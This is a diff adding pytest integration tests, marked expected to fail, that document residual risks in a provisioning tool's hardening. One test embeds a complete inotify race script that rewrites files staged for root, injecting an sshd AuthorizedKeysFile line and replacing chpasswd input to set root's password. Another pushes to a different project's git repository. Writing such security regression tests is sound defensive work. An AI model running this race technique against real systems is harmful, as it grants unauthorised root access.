@@ -1,0 +1,133 @@
+"""Attacks from the review of the hardening, performed on the lab (see docs/security.md, Residual risks).
+
+- a process of the connecting admin on storage (it cannot sudo: it lacks the password) rewrites the files
+  provision stages for root (the sshd drop-in, chpasswd's input) between upload and install;
+- a client of one project pushes, with its own git key, to the repository of another project that
+  shares the storage host's git_user.
+"""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.integration.clirunner import provision, provision_json
+from tests.integration.helpers import admin_inventory, client_ssh_options, failures, sh
+
+pytestmark = pytest.mark.integration
+
+DROP_IN = "/etc/ssh/sshd_config.d/10-provision-dvc.conf"
+
+# Run as the connecting admin: every file closed after writing in a new /tmp/.provision-stage.* directory
+# is read and rewritten in place (same inode, no link): an sshd drop-in gets a global AuthorizedKeysFile
+# line first, chpasswd's `dvc:<password>` becomes `root:<racer's password>`. Stops when argv[1] exists;
+# prints "ready", then the number of rewrites.
+RACER = r"""
+import ctypes, os, select, struct, sys
+libc = ctypes.CDLL("libc.so.6", use_errno=True)
+IN_CLOSE_WRITE, IN_CREATE = 0x8, 0x100
+stop = sys.argv[1]
+fd = libc.inotify_init1(os.O_NONBLOCK)
+directories = {libc.inotify_add_watch(fd, b"/tmp", IN_CREATE): "/tmp"}
+print("ready", flush=True)
+rewritten, rewrites = set(), 0
+while not os.path.exists(stop):
+    if not select.select([fd], [], [], 0.1)[0]:
+        continue
+    data, offset = os.read(fd, 65536), 0
+    while offset < len(data):
+        wd, mask, cookie, length = struct.unpack_from("iIII", data, offset)
+        name = data[offset + 16:offset + 16 + length].rstrip(b"\0").decode()
+        offset += 16 + length
+        path = os.path.join(directories[wd], name)
+        if directories[wd] == "/tmp":
+            if name.startswith(".provision-stage."):
+                directories[libc.inotify_add_watch(fd, path.encode(), IN_CLOSE_WRITE)] = path
+            continue
+        if path in rewritten:
+            continue
+        try:
+            with open(path, "rb") as staged:
+                content = staged.read()
+            if content.startswith(b"# provision inventory:"):
+                content = b"# racer\nAuthorizedKeysFile .ssh/authorized_keys /tmp/racer-keys\n" + content
+            elif content.startswith(b"dvc:"):
+                content = b"root:racer-password\n"
+            else:
+                continue
+            with open(path, "r+b") as staged:
+                staged.truncate(0)
+                staged.write(content)
+            rewritten.add(path)
+            rewrites += 1
+        except OSError:
+            pass
+print(rewrites, flush=True)
+"""
+
+
+@pytest.mark.xfail(strict=True, reason="root installs and chpasswd read staged files as the connecting user "
+                   "left them, whatever that user's processes wrote there after the upload")
+def test_a_process_of_the_connecting_admin_cannot_rewrite_what_root_installs(make_lab, tmp_path: Path,
+                                                                           vault_env: dict[str, str]) -> None:
+    """Storage reached as the sudo admin, a password client: its staged drop-in and chpasswd input are raced."""
+    lab = make_lab(["storage", "ws1"])
+    inventory = admin_inventory(lab, tmp_path, {"storage"})
+    (tmp_path / "host_vars").mkdir()
+    (tmp_path / "host_vars" / "ws1.yml").write_text("auth: password\n")
+    stored = provision("secrets", "set", "-i", str(inventory), "--scope", "all", "become_password", home=tmp_path,
+                       env=vault_env, stdin=lab.admin_password_file.read_text())
+    assert stored.returncode == 0, stored.stderr
+    root_hash = sh(lab, "storage", ["getent", "shadow", "root"])
+    lab.host_path("storage", "/tmp/racer.py").write_text(RACER)
+    racer = subprocess.Popen(
+        ["nsenter", "--target", str(lab.pid("storage")), "--mount", "--uts", "--", "su", "-s", "/bin/sh", "-c",
+         'exec python3 /tmp/racer.py "$0"', lab.admin_user, "/tmp/racer.stop"],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        assert racer.stdout is not None and racer.stdout.readline().strip() == "ready"
+        raced_status, raced = provision_json("bootstrap", "-i", str(inventory), home=tmp_path, env=vault_env)
+    finally:
+        lab.host_path("storage", "/tmp/racer.stop").touch()
+        output, errors = racer.communicate(timeout=60)
+    rewrites = int(output.strip().splitlines()[-1])
+    assert rewrites > 0, f"the racer never caught a staged file: {errors}"
+    assert sh(lab, "storage", ["getent", "shadow", "root"]) == root_hash, failures(raced)
+    drop_in = lab.host_path("storage", DROP_IN)
+    assert not drop_in.exists() or "racer" not in drop_in.read_text(), (raced_status, failures(raced))
+    assert raced_status != 0, "a rewritten staged file must fail the run, not be installed"
+
+    status, document = provision_json("bootstrap", "-i", str(inventory), home=tmp_path, env=vault_env)
+    assert status == 0, failures(document)
+    assert "racer" not in drop_in.read_text()
+
+
+@pytest.mark.xfail(strict=True, reason="git_user's ~/git-repositories is one list for every inventory that "
+                   "shares git_user: each key reaches every listed repository (docs/security.md, Residual risks)")
+def test_a_client_of_one_project_cannot_push_to_another_projects_repository(make_lab, tmp_path: Path) -> None:
+    """Two inventories (projects demo and other) share storage's default accounts; ws1 is a client of demo."""
+    lab = make_lab(["storage", "ws1"])
+    done = provision("bootstrap", "-i", str(lab.inventory_path), home=tmp_path)
+    assert done.returncode == 0, done.stdout + done.stderr
+    status, document = provision_json("onboard", "-i", str(lab.inventory_path), "ws1", home=tmp_path)
+    assert status == 0, failures(document)
+    data = yaml.safe_load(lab.inventory_path.read_text())
+    data["all"]["vars"]["project"] = "other"
+    del data["all"]["children"]["clients"]
+    other = tmp_path / "other.yml"
+    other.write_text(yaml.safe_dump(data))
+    other.with_suffix(".known_hosts").write_text(lab.known_hosts_path.read_text())
+    done = provision("bootstrap", "-i", str(other), home=tmp_path)
+    assert done.returncode == 0, done.stdout + done.stderr
+    before = sh(lab, "storage", ["su", "-s", "/bin/sh", "git", "-c", "git -C /mnt/nfs/git/other.git show-ref"])
+
+    ssh = " ".join(["ssh", *client_ssh_options(), "-p", str(lab.port("storage"))])
+    push = ("set -e; cd /root/demo; git checkout -q -b intruder; "
+            "git -c user.name=intruder -c user.email=intruder@example.invalid commit -q --allow-empty -m intrusion; "
+            'GIT_SSH_COMMAND="$0" git push -q git@127.0.0.1:/mnt/nfs/git/other.git intruder')
+    pushed = lab.exec("ws1", ["sh", "-c", push, ssh])
+    after = sh(lab, "storage", ["su", "-s", "/bin/sh", "git", "-c", "git -C /mnt/nfs/git/other.git show-ref"])
+    assert pushed.returncode != 0 and after == before, pushed.stderr
